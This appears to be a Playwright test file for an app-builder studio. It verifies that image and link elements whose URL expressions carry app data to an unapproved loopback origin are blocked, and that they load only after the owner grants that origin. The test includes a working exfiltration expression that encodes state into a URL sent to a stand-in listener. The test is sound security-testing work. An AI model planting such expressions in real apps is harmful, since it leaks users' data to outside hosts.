/**
 * Issue 12, "Network means network", as the attack: an app's Image whose `src` is an expression
 * building a URL to a listener on loopback with the app's data in it. Opened in the owner's own
 * studio, in Edit and in Use mode, while the data changes, the listener hears nothing: the canvas
 * draws a "blocked image" placeholder and never sets the `src`. A literal address to the listener
 * is refused over HTTP with E_NETWORK_ORIGIN. Once the owner grants the origin, the same image
 * loads, so the listener is shown to work.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

interface FileNode {
  id: string;
  type: string;
  children?: FileNode[];
}

// A 1×1 transparent PNG, so a granted image loads cleanly.
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64'
);

test('an image whose address carries app data to another origin is never requested', async ({
  page,
  request
}) => {
  const heard: string[] = [];
  const listener = http.createServer((req, res) => {
    heard.push(req.url ?? '');
    res.setHeader('content-type', 'image/png');
    res.end(PIXEL);
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  try {
    const created = await request.post('/api/apps', { data: { template: 'todo' } });
    const { id } = (await created.json()) as { id: string };
    const file = (await (await request.get(`/api/apps/${id}/file`)).json()) as {
      components: { view: FileNode }[];
    };
    const root = file.components[0].view.id;

    // A literal address to the listener: refused over HTTP, with the code.
    const literal = await request.post(`/api/apps/${id}/ops`, {
      data: {
        ops: [{ op: 'addNode', parent: root, type: 'Image', props: { src: `${origin}/?d=1` } }]
      }
    });
    expect(literal.status()).toBe(422);
    expect(((await literal.json()) as { errors: { code: string }[] }).errors[0].code).toBe(
      'E_NETWORK_ORIGIN'
    );

    // An expression: the gate cannot know its value, so it is accepted, and judged where drawn.
    const leak = `'${origin}/?d=' + encodeURIComponent(state.draft + '|' + state.items.length)`;
    const added = await request.post(`/api/apps/${id}/ops`, {
      data: {
        ops: [
          {
            op: 'addNode',
            parent: root,
            index: 0,
            type: 'Image',
            id: 'leak',
            props: { src: { $expr: leak }, alt: 'Chart', height: 120 }
          },
          {
            op: 'addNode',
            parent: root,
            index: 1,
            type: 'Link',
            props: { text: 'Report', href: { $expr: leak } }
          }
        ]
      }
    });
    expect(added.status(), await added.text()).toBe(200);

    // Every request the page makes, whatever it reaches, is seen here.
    const asked: string[] = [];
    page.on('request', (r) => {
      if (r.url().startsWith(origin)) asked.push(r.url());
    });

    await page.goto(`/apps/${id}`);
    const canvas = page.locator('[data-canvas]');
    await expect(canvas).toHaveAttribute('data-live-state', 'running');
    const blocked = canvas.locator(`.image[data-blocked-origin="${origin}"]`);
    await expect(blocked).toBeVisible();
    await expect(blocked).toContainText(`Blocked image: origin ${origin} is not allowed`);
    await expect(canvas.locator('img')).toHaveCount(0);
    const link = canvas.locator(`a[data-blocked-origin="${origin}"]`);
    await expect(link).toContainText('blocked link');
    expect(await link.getAttribute('href')).toBeNull();

    // Use mode, with the data changing under the expression: still nothing leaves.
    await page.locator('[data-mode-button="use"]').click();
    await expect(canvas).toHaveAttribute('data-canvas-mode', 'use');
    const input = canvas.locator('[data-node-id] input[type="text"]').first();
    await input.fill('secret plans');
    await input.press('Enter');
    await expect(canvas.getByText('secret plans')).toBeVisible();
    await expect(blocked).toBeVisible();
    await expect(canvas.locator('img')).toHaveCount(0);
    await blocked.screenshot({ path: 'test-results/blocked-image.png' });
    await page.locator('[data-canvas-page]').screenshot({ path: 'test-results/blocked-app.png' });

    // Back to Edit mode: still blocked.
    await page.locator('[data-mode-button="edit"]').click();
    await expect(canvas).toHaveAttribute('data-canvas-mode', 'edit');
    await expect(blocked).toBeVisible();
    expect(asked).toEqual([]);
    expect(heard).toEqual([]);

    // The owner grants the origin: the very same image now loads from it (the listener works).
    const granted = await request.post(`/api/apps/${id}/ops`, {
      data: {
        ops: [
          {
            op: 'setCapabilities',
            component: 'App',
            capabilities: { network: { origins: [origin] } }
          }
        ]
      }
    });
    expect(granted.status(), await granted.text()).toBe(200);
    await expect(canvas.locator(`img[src^="${origin}/?d="]`)).toHaveCount(1);
    await expect.poll(() => heard.length).toBeGreaterThan(0);
    expect(heard[0]).toMatch(/^\/\?d=/);
  } finally {
    await new Promise<void>((resolve) => listener.close(() => resolve()));
  }
});
